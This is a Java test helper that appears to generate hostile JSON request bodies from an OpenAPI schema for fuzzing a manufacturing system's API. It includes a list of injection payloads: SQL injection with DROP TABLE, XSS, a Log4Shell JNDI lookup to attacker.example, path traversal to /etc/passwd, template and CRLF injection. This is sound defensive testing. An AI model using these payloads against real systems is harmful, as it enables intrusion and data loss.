package org.pilotline.mes.systemtests;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.function.Consumer;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

/**
 * Hostile request bodies for one operation, made from the JSON schema its OpenAPI document gives for the body:
 * malformed JSON, the wrong shape, and for every field (nested ones too) the wrong type, absence when required,
 * an unknown enum value, a 1 MB string, null, injection strings and odd Unicode. Every case starts from a
 * plausible body, so that what is hostile is the one thing the case changes.
 */
final class HostileBodies {

    /**
     * One request body and what is wrong with it. {@code textOnly}: only its text is odd (injection strings, odd but
     * storable Unicode), which a free-text field may rightly keep; hostile only where the operation refuses a
     * plausible body anyway.
     */
    record Case(String what, byte[] body, boolean textOnly) {

        Case(String what, byte[] body) {
            this(what, body, false);
        }
    }

    static final String MEGABYTE = "A".repeat(1 << 20);
    /** Strings that mean something to a database, a shell, a template engine, a logger or a browser. */
    static final List<String> INJECTIONS = List.of("' OR '1'='1", "x'); DROP TABLE audit_log; --",
            "<script>alert(1)</script>", "${jndi:ldap://attacker.example/a}", "../../../../etc/passwd", "{{7*7}}",
            "%00%0d%0aSet-Cookie: x=1");
    /** Text PostgreSQL cannot store (NUL, a lone surrogate) and text it can that has bitten many systems. */
    static final List<String> ODD_UNICODE = List.of("nul\u0000byte", "lone\ud800surrogate", "\u202eright-to-left",
            "zero\u200bwidth\ufeffbom", "🔋⚡ cell", "e\u0301 combining", "ＦＵＬＬ ｗｉｄｔｈ", "電池");

    private static final List<String> UNSTORABLE = ODD_UNICODE.subList(0, 2);
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final int MAX_DEPTH = 4;

    private final JsonNode components;

    /** @param openApi the whole OpenAPI document, for its {@code components/schemas} */
    HostileBodies(JsonNode openApi) {
        this.components = openApi.path("components").path("schemas");
    }

    /** Every hostile body for a request body of this schema. */
    List<Case> cases(JsonNode schema) {
        JsonNode resolved = resolve(schema);
        JsonNode plausible = plausible(resolved, 0);
        String text = plausible.toString();
        List<Case> cases = new ArrayList<>();
        cases.add(new Case("not JSON at all", bytes("this is not JSON")));
        cases.add(new Case("an empty body", new byte[0]));
        cases.add(new Case("truncated JSON", bytes(text.substring(0, Math.max(1, text.length() / 2)))));
        cases.add(new Case("JSON with a trailing comma", bytes(text.replaceFirst("}$", ",}"))));
        cases.add(new Case("null instead of the body", bytes("null")));
        cases.add(new Case("a number instead of the body", bytes("42")));
        cases.add(new Case("a string instead of the body", bytes("\"x\"")));
        cases.add(new Case("Latin-1 instead of UTF-8", text.replace("HOSTILE", "HOSTIL\u00c9")
                .getBytes(StandardCharsets.ISO_8859_1)));
        cases.add(new Case("binary garbage", new byte[] { (byte) 0xff, (byte) 0xfe, 0, 1, 2, (byte) 0x80, '{' }));
        cases.add(new Case("1 MB of nesting", bytes("[".repeat(1 << 20))));
        cases.add(new Case(resolved.path("type").asText("object").equals("array") ? "an object where the array belongs"
                : "an array where the object belongs", bytes(resolved.path("type").asText("object").equals("array")
                        ? "{}" : "[" + text + "]")));
        if (plausible.isObject()) {
            fieldCases(resolved, (ObjectNode) plausible, plausible, "", cases, 0);
            for (String s : INJECTIONS) {
                cases.add(new Case("every string field " + printable(s), bytes(everyString(plausible, s).toString()),
                        true));
            }
            for (String s : ODD_UNICODE) {
                cases.add(new Case("every string field " + printable(s), bytes(everyString(plausible, s).toString()),
                        !UNSTORABLE.contains(s)));
            }
        }
        return cases;
    }

    /** The cases of each field of {@code object} (at {@code path} within {@code root}), then of its own fields. */
    private void fieldCases(JsonNode schema, ObjectNode object, JsonNode root, String path, List<Case> cases,
            int depth) {
        if (depth >= MAX_DEPTH) {
            return;
        }
        List<String> required = new ArrayList<>();
        schema.path("required").forEach(r -> required.add(r.asText()));
        for (Iterator<String> names = object.fieldNames(); names.hasNext();) {
            String name = names.next();
            String at = path.isEmpty() ? name : path + "." + name;
            JsonNode field = resolve(schema.path("properties").path(name));
            String type = type(field);
            if (required.contains(name)) {
                cases.add(new Case(at + " missing (required)", mutated(root, path, o -> o.remove(name))));
                cases.add(new Case(at + " null (required)", mutated(root, path, o -> o.putNull(name))));
            }
            cases.add(new Case(at + " of the wrong type", mutated(root, path, o -> o.set(name, wrongType(type)))));
            if (field.has("enum")) {
                cases.add(new Case(at + " an unknown enum value",
                        mutated(root, path, o -> o.put(name, "NO_SUCH_VALUE"))));
            }
            if (type.equals("string")) {
                cases.add(new Case(at + " a 1 MB string", mutated(root, path, o -> o.put(name, MEGABYTE))));
            }
            if (type.equals("integer") || type.equals("number")) {
                cases.add(new Case(at + " too big for any number", mutated(root, path,
                        o -> o.set(name, NODES.numberNode(new java.math.BigDecimal("1e400"))))));
            }
            if (type.equals("object") && object.get(name).isObject()) {
                cases.add(new Case(at + " an array where the object belongs", mutated(root, path,
                        o -> o.set(name, NODES.arrayNode().add(o.get(name))))));
                fieldCases(field, (ObjectNode) object.get(name), root, at, cases, depth + 1);
            }
            if (type.equals("array") && object.get(name).isArray() && object.get(name).get(0) != null
                    && object.get(name).get(0).isObject()) {
                fieldCases(resolve(field.path("items")), (ObjectNode) object.get(name).get(0), root, at + "[0]", cases,
                        depth + 1);
            }
        }
    }

    /** A body that would pass the schema: every property present with a value of its type. */
    JsonNode plausible(JsonNode schema, int depth) {
        JsonNode s = resolve(schema);
        if (s.has("enum")) {
            return s.get("enum").get(0);
        }
        return switch (type(s)) {
        case "object" -> {
            ObjectNode o = NODES.objectNode();
            if (depth < MAX_DEPTH) {
                s.path("properties").fields().forEachRemaining(p -> o.set(p.getKey(), plausible(p.getValue(),
                        depth + 1)));
            }
            yield o;
        }
        case "array" -> NODES.arrayNode().add(plausible(s.path("items"), depth + 1));
        case "integer" -> NODES.numberNode(1);
        case "number" -> NODES.numberNode(1.5);
        case "boolean" -> NODES.booleanNode(true);
        default -> NODES.textNode(switch (s.path("format").asText("")) {
            case "date-time" -> Instant.now().toString();
            case "date" -> LocalDate.now().toString();
            case "uuid" -> java.util.UUID.randomUUID().toString();
            default -> "HOSTILE-1";
        });
        };
    }

    private JsonNode resolve(JsonNode schema) {
        JsonNode s = schema;
        for (int hops = 0; hops < 10; hops++) {
            if (s.has("$ref")) {
                s = components.path(s.get("$ref").asText().replace("#/components/schemas/", ""));
            } else if (s.has("allOf") && s.get("allOf").size() == 1) {
                s = s.get("allOf").get(0);
            } else if (s.has("oneOf") && s.get("oneOf").size() > 0) {
                s = s.get("oneOf").get(0);
            } else if (s.has("anyOf") && s.get("anyOf").size() > 0) {
                s = s.get("anyOf").get(0);
            } else {
                return s;
            }
        }
        return s;
    }

    private static String type(JsonNode schema) {
        JsonNode t = schema.path("type");
        if (t.isArray()) { // OpenAPI 3.1: ["string", "null"]
            for (JsonNode each : t) {
                if (!each.asText().equals("null")) {
                    return each.asText();
                }
            }
        }
        if (t.isTextual()) {
            return t.asText();
        }
        return schema.has("properties") ? "object" : "string";
    }

    /** A value no field of {@code type} takes (Jackson turns numbers into strings, so strings get an object). */
    private static JsonNode wrongType(String type) {
        return switch (type) {
        case "string" -> NODES.objectNode().put("not", "a string");
        case "integer", "number" -> NODES.textNode("not a number");
        case "boolean" -> NODES.textNode("maybe");
        case "array" -> NODES.objectNode().put("not", "an array");
        default -> NODES.textNode("not an object");
        };
    }

    /** {@code root} with the object at {@code path} changed by {@code change}. */
    private static byte[] mutated(JsonNode root, String path, Consumer<ObjectNode> change) {
        JsonNode copy = root.deepCopy();
        JsonNode at = copy;
        if (!path.isEmpty()) {
            for (String step : path.split("\\.")) {
                at = step.endsWith("[0]") ? at.get(step.substring(0, step.length() - 3)).get(0) : at.get(step);
            }
        }
        change.accept((ObjectNode) at);
        return bytes(copy.toString());
    }

    /** A copy of {@code node} with every string in it replaced by {@code s}. */
    private static JsonNode everyString(JsonNode node, String s) {
        if (node.isTextual()) {
            return NODES.textNode(s);
        }
        if (node.isObject()) {
            ObjectNode o = NODES.objectNode();
            node.fields().forEachRemaining(f -> o.set(f.getKey(), everyString(f.getValue(), s)));
            return o;
        }
        if (node.isArray()) {
            ArrayNode a = NODES.arrayNode();
            node.forEach(e -> a.add(everyString(e, s)));
            return a;
        }
        return node;
    }

    static String printable(String s) {
        StringBuilder b = new StringBuilder("'");
        s.codePoints().forEach(c -> b.append(c < 0x20 || (c >= 0x200b && c <= 0x202e) || c == 0xfeff
                || (c >= 0xd800 && c <= 0xdfff) ? String.format("\\u%04x", c) : Character.toString(c)));
        return b.append("'").toString();
    }

    /** UTF-8, with a lone surrogate written as a JSON escape (UTF-8 has no form for it; only JSON strings do). */
    private static byte[] bytes(String s) {
        StringBuilder b = new StringBuilder(s.length());
        for (int i = 0; i < s.length(); i++) {
            char c = s.charAt(i);
            boolean pairStart = Character.isHighSurrogate(c) && i + 1 < s.length()
                    && Character.isLowSurrogate(s.charAt(i + 1));
            if (pairStart) {
                b.append(c).append(s.charAt(++i));
            } else if (Character.isSurrogate(c)) {
                b.append(String.format("\\u%04x", (int) c));
            } else {
                b.append(c);
            }
        }
        return b.toString().getBytes(StandardCharsets.UTF_8);
    }

    static JsonNode parse(String json) {
        try {
            return JSON.readTree(json);
        } catch (java.io.IOException e) {
            throw new IllegalStateException("not JSON: " + e.getMessage(), e);
        }
    }
}
